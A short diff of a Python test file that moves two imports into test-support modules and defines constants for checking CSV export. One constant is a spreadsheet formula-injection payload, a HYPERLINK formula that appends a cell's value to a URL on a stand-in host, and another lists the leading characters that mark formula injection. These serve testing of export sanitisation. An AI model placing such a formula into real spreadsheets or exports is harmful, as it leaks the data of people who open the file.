@@ -6,11 +6,11 @@ import re
 from datetime import UTC, datetime, timedelta, timezone
 
 import pytest
-from night import Night
-from public_page import Public
 
 from db.csv_file import write_csv
 from db.schema import bureau, department
+from tests.support.public_site import Public
+from tests.support.result_workflow import Night
 
 FORMULA = '=HYPERLINK("http://there.example/?"&A1,"here")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
